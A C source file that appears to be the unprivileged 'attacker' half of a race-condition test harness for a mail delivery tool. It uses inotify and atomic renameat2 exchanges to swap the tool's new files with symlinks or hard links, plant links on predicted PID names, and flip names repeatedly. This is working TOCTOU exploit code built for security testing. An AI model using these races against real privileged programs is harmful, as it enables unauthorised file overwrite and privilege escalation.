/* attacker.c - the hostile mailbox owner of the race harness (race.pl).
 *
 * Started as root, it drops to the uid/gid given and proves it cannot
 * get root back, then obeys race.pl on stdin, one line per command,
 * answering one line on stdout:
 *
 *   rule TRIGGER WDIR WNAME ACTION DIR NAME TARGET
 *        TRIGGER: create   IN_CREATE/IN_MOVED_TO of WNAME ("*": any) in WDIR
 *                          (NAME "=": the name created)
 *                 close    IN_CLOSE_* of WNAME in WDIR
 *                 closedir IN_CLOSE_NOWRITE of WDIR itself (a listing
 *                          ended; WNAME is "-")
 *                 arm      at once, when armed (flip: from then on)
 *        ACTION:  swap  exchange DIR/NAME with a link to TARGET, once
 *                 flip  exchange it back and forth until disarmed
 *                 plant put the link at DIR/NAME (whatever was there
 *                       moves aside)
 *                 pids  plant links DIR/NAME<pid> for the next PIDS
 *                       pids the kernel will hand out, and count the
 *                       events on them ("touched": the tool used one)
 *   arm sym|hard   make the links (symlink(2) or link(2) to TARGET),
 *                  watch, answer "armed" (or "error TEXT")
 *   disarm         stop; answer "done fired=N swaps=N hard=N pids=LO-HI
 *                  touched=N events=N misses=N errno=N" (misses: exchanges that
 *                  failed, errno the last one's reason)
 *   quit
 *
 * The exchange is renameat2(RENAME_EXCHANGE): one atomic step that puts
 * the link where the tool's new file or directory was (the original
 * moves to DIR/.mmrace.N, for race.pl to clean up). Reactions come from
 * inotify(7) within microseconds; where inotify is unavailable (or with
 * --spin) a create rule spins on the exchange until the name exists.
 * Everything the attacker does is what any local user may do in her own
 * directories; hard links to files she does not own need
 * fs.protected_hardlinks = 0, which race.pl sets for the run.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_RULES 8
#define PIDS 64
#define PATHBUF (PATH_MAX + NAME_MAX + 32)

enum trig { T_CREATE, T_CLOSE, T_CLOSEDIR, T_ARM };
enum act { A_SWAP, A_FLIP, A_PLANT, A_PIDS };

struct rule {
	enum trig trig;
	enum act act;
	char wdir[PATH_MAX], wname[NAME_MAX + 1];
	char dir[PATH_MAX], name[NAME_MAX + 1], target[PATH_MAX];
	char prep[PATHBUF];   /* DIR/.mmrace.N: the link, until swapped */
	char ename[NAME_MAX + 1]; /* NAME "=": the name the event gave */
	int wd, fired, flipping;
};

static struct rule rules[MAX_RULES];
static int nrules, ifd = -1, spin;
static long fired, swaps, hard, pid_lo, pid_hi, misses, events, touched;
static int last_errno;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
}

static int make_link(const char *target, const char *path, int kind_hard)
{
	unlink(path);
	if (kind_hard) {
		if (link(target, path) < 0)
			return -1;
		hard++;
		return 0;
	}
	return symlink(target, path);
}

/* Swap DIR/NAME with the prepared link; 1 done, 0 not there (yet). */
static int exchange(struct rule *r)
{
	char path[PATHBUF];

	snprintf(path, sizeof(path), "%s/%s", r->dir, r->ename[0] ? r->ename : r->name);
	if (renameat2(AT_FDCWD, r->prep, AT_FDCWD, path, RENAME_EXCHANGE) == 0) {
		swaps++;
		return 1;
	}
	misses++;
	last_errno = errno;
	return 0;
}

static void fire(struct rule *r)
{
	if (r->fired && r->act != A_FLIP)
		return;
	if (r->act == A_FLIP) {
		r->flipping = 1;
		if (!r->fired) {
			r->fired = 1;
			fired++;
		}
		return;
	}
	if (exchange(r)) {
		r->fired = 1;
		fired++;
	}
}

static long next_pid(void)
{
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
	long p = -1;
	pid_t c;

	if (f != NULL) {
		if (fscanf(f, "%ld", &p) != 1)
			p = -1;
		fclose(f);
	}
	if (p > 0)
		return p + 1;
	/* no ns_last_pid: a child of ours shows where the counter is */
	c = fork();
	if (c == 0)
		_exit(0);
	if (c > 0)
		waitpid(c, NULL, 0);
	return c > 0 ? c + 1 : 1;
}

static int arm(int kind_hard, char *err, size_t errlen)
{
	fired = swaps = hard = misses = events = touched = 0;
	last_errno = 0;
	pid_lo = pid_hi = 0;
	for (int i = 0; i < nrules; i++) {
		struct rule *r = &rules[i];
		char path[PATHBUF];

		r->fired = r->flipping = 0;
		r->wd = -1;
		r->ename[0] = '\0';
		if (r->act == A_PIDS) {
			pid_lo = next_pid();
			pid_hi = pid_lo + PIDS - 1;
			for (long p = pid_lo; p <= pid_hi; p++) {
				snprintf(path, sizeof(path), "%s/%s%ld", r->dir,
					 r->name, p);
				if (make_link(r->target, path, kind_hard) < 0) {
					snprintf(err, errlen, "link %s: %s", path,
						 strerror(errno));
					return -1;
				}
			}
			r->fired = 1;
			fired++;
			/* whether the tool ever uses one of them */
			if (ifd >= 0 && !spin &&
			    (r->wd = inotify_add_watch(ifd, r->dir, IN_ALL_EVENTS |
						   IN_MASK_ADD)) < 0) {
				snprintf(err, errlen, "watch %s: %s", r->dir,
					 strerror(errno));
				return -1;
			}
			continue;
		}
		/* via path: r->dir and r->prep are in the same object, and
		 * gcc -O0 -Wall sees a restrict overlap */
		snprintf(path, sizeof(path), "%s/.mmrace.%d", r->dir, i);
		memcpy(r->prep, path, sizeof(r->prep));
		if (make_link(r->target, r->prep, kind_hard) < 0) {
			snprintf(err, errlen, "link %s -> %s: %s", r->prep,
				 r->target, strerror(errno));
			return -1;
		}
		if (r->trig == T_ARM && r->act == A_FLIP) {
			fire(r); /* flip from the start */
			continue;
		}
		if (r->trig == T_ARM) {
			snprintf(path, sizeof(path), "%s/%s", r->dir, r->name);
			/* plant: whatever is there moves aside; a missing
			 * name simply gets the link */
			if (exchange(r) || (rename(r->prep, path) == 0 && ++swaps)) {
				r->fired = 1;
				fired++;
			} else {
				snprintf(err, errlen, "plant %s: %s", path,
					 strerror(errno));
				return -1;
			}
			continue;
		}
		if (ifd >= 0 && !spin) {
			uint32_t mask = r->trig == T_CREATE ? IN_CREATE | IN_MOVED_TO
				      : r->trig == T_CLOSE ? IN_CLOSE
				      : IN_CLOSE_NOWRITE;
			r->wd = inotify_add_watch(ifd, r->wdir, mask | IN_MASK_ADD);
			if (r->wd < 0) {
				snprintf(err, errlen, "watch %s: %s", r->wdir,
					 strerror(errno));
				return -1;
			}
		}
	}
	return 0;
}

/* The events queued; fire the rules they trigger unless late (the tool
 * has ended: only count what touched planted names). */
static void on_events(int late)
{
	char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
	ssize_t n = read(ifd, buf, sizeof(buf));

	for (char *p = buf; n > 0 && p < buf + n;) {
		struct inotify_event *ev = (struct inotify_event *)p;

		events++;
		for (int i = 0; i < nrules; i++) {
			struct rule *r = &rules[i];
			int self = ev->len == 0 || ev->name[0] == '\0';

			if (r->wd != ev->wd)
				continue;
			if (r->act == A_PIDS) {
				if (!self && strncmp(ev->name, r->name, strlen(r->name)) == 0)
					touched++;
				continue;
			}
			if (late || r->trig == T_ARM || (!self && strncmp(ev->name, ".mmrace.", 8) == 0))
				continue;
			if (r->trig == T_CLOSEDIR ? (self && (ev->mask & IN_CLOSE_NOWRITE))
			    : (!self && (strcmp(r->wname, "*") == 0 ||
					  strcmp(ev->name, r->wname) == 0) &&
			       (ev->mask & (r->trig == T_CREATE ? IN_CREATE | IN_MOVED_TO
							       : IN_CLOSE))))
			{
				if (strcmp(r->name, "=") == 0 && !r->fired)
					snprintf(r->ename, sizeof(r->ename), "%s", ev->name);
				fire(r);
			}
		}
		p += sizeof(*ev) + ev->len;
	}
}

static int parse_rule(char *line)
{
	char t[16], a[16];
	struct rule *r = &rules[nrules];

	if (nrules == MAX_RULES ||
	    sscanf(line, "rule %15s %4095s %255s %15s %4095s %255s %4095s", t,
		   r->wdir, r->wname, a, r->dir, r->name, r->target) != 7)
		return -1;
	r->trig = !strcmp(t, "create") ? T_CREATE : !strcmp(t, "close") ? T_CLOSE
		: !strcmp(t, "closedir") ? T_CLOSEDIR : !strcmp(t, "arm") ? T_ARM : -1;
	r->act = !strcmp(a, "swap") ? A_SWAP : !strcmp(a, "flip") ? A_FLIP
	       : !strcmp(a, "plant") ? A_PLANT : !strcmp(a, "pids") ? A_PIDS : -1;
	if ((int)r->trig < 0 || (int)r->act < 0)
		return -1;
	if (r->act == A_PLANT || r->act == A_PIDS)
		r->trig = T_ARM;
	nrules++;
	return 0;
}

static void drop(uid_t uid, gid_t gid)
{
	if (geteuid() == 0 &&
	    (setgroups(0, NULL) < 0 || setgid(gid) < 0 || setuid(uid) < 0)) {
		perror("attacker: dropping privileges");
		exit(1);
	}
	if (getuid() != uid || geteuid() != uid || getegid() != gid ||
	    getgid() != gid || setuid(0) == 0) {
		fprintf(stderr, "attacker: not running as %u:%u only\n",
			(unsigned)uid, (unsigned)gid);
		exit(1);
	}
}

int main(int argc, char **argv)
{
	char line[3 * PATH_MAX], err[2 * PATHBUF + 64];
	int armed = 0;

	if (argc < 3) {
		fprintf(stderr, "usage: attacker UID GID [--spin]\n");
		return 2;
	}
	drop((uid_t)strtoul(argv[1], NULL, 10), (gid_t)strtoul(argv[2], NULL, 10));
	spin = argc > 3 && strcmp(argv[3], "--spin") == 0;
	if (!spin && (ifd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) < 0)
		spin = 1; /* no inotify here: spin on the names instead */
	setvbuf(stdin, NULL, _IOLBF, 0);
	say("ready uid=%u euid=%u gid=%u mode=%s", (unsigned)getuid(),
	    (unsigned)geteuid(), (unsigned)getgid(), spin ? "spin" : "inotify");
	for (;;) {
		struct pollfd pf[2] = { { 0, POLLIN, 0 }, { ifd, POLLIN, 0 } };
		int busy = 0;

		for (int i = 0; armed && i < nrules; i++) {
			struct rule *r = &rules[i];

			if (r->flipping) {
				exchange(r);
				busy = 1;
			} else if (spin && !r->fired && r->trig != T_ARM) {
				/* no events: try until the name is there */
				if (r->trig == T_CREATE)
					fire(r);
				else
					r->flipping = 1;
				busy = 1;
			}
		}
		if (poll(pf, ifd >= 0 ? 2 : 1, busy ? 0 : -1) < 0 && errno != EINTR)
			return 1;
		if (pf[0].revents & (POLLIN | POLLHUP)) {
			/* the command first: events still queued after the
			 * tool ended are not contention */
			if (fgets(line, sizeof(line), stdin) == NULL)
				return 0;
			line[strcspn(line, "\n")] = '\0';
			if (strncmp(line, "rule ", 5) == 0) {
				if (parse_rule(line) < 0)
					say("error bad rule: %s", line);
				else
					say("ok");
			} else if (strncmp(line, "arm ", 4) == 0) {
				int kind_hard = strcmp(line + 4, "hard") == 0;

				if (ifd >= 0) {
					/* watches of the last attempt go */
					close(ifd);
					ifd = spin ? -1 : inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
				}
				if (arm(kind_hard, err, sizeof(err)) < 0) {
					say("error %s", err);
				} else {
					armed = 1;
					say("armed");
				}
			} else if (strcmp(line, "disarm") == 0) {
				armed = 0;
				if (ifd >= 0)
					on_events(1); /* too late to strike */
				say("done fired=%ld swaps=%ld hard=%ld pids=%ld-%ld "
				    "touched=%ld events=%ld misses=%ld errno=%d", fired,
				    swaps, hard, pid_lo, pid_hi, touched, events,
				    misses, last_errno);
				nrules = 0;
			} else if (strcmp(line, "quit") == 0) {
				return 0;
			} else {
				say("error unknown command: %s", line);
			}
			continue;
		}
		if (armed && ifd >= 0 && (pf[1].revents & POLLIN))
			on_events(0);
	}
}
